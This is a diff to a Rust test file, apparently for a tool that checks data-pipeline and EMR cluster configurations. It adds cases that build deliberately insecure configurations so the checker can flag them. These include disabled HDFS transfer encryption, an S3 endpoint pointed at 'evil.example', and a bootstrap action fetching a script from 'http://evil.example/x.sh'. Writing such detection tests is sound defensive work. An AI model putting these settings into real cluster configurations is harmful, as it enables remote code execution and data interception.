@@ -125,6 +125,10 @@ fn refuting(check: &str) -> Stage {
         }
         "release-supports-encryption" => stage.replace("5.29.0", "5.9.0"),
         "subnet-set" => stage.replace("ec2_subnet_id: subnet-0123456789abcdef0", "ec2_subnet_id:"),
+        "configuration-weakens-encryption" => with_property(stage, "hdfs-site: {dfs.encrypt.data.transfer: \"false\"}"),
+        "configuration-review" => with_property(stage, "emrfs-site: {fs.s3n.endpoint: \"http://evil.example\"}"),
+        "bootstrap-actions" => stage.replace("    bootstrap: []\n", "    bootstrap: [\"http://evil.example/x.sh\"]\n"),
+        "additional-info" => stage.replace("    additional_info:\n", "    additional_info: \"{}\"\n"),
         "environment-loads-code" => stage.env("JAVA_TOOL_OPTIONS", "-Xmx1g -javaagent:/opt/agent.jar"),
         "target-tls" => with_target(Stage::acme(), "DISABLE"),
         "enrichment-sources" => with_enrichment(Stage::acme(), "http://api.acme.com/x"),
@@ -179,6 +183,10 @@ fn with_enrichment(stage: Stage, uri: &str) -> Stage {
         "name": "ip_lookups", "vendor": "com.snowplowanalytics.snowplow", "enabled": true, "parameters": {"geo": {"database": "x.mmdb", "uri": uri}}}});
     stage.write("enrichments/ip_lookups.json", &enrichment.to_string());
     stage.argument("-n").argument("enrichments")
+}
+
+fn with_property(stage: Stage, classification: &str) -> Stage {
+    stage.replace("    configuration:\n", &format!("    configuration:\n      {classification}\n"))
 }
 
 fn with_tracking(stage: Stage, protocol: &str) -> Stage {
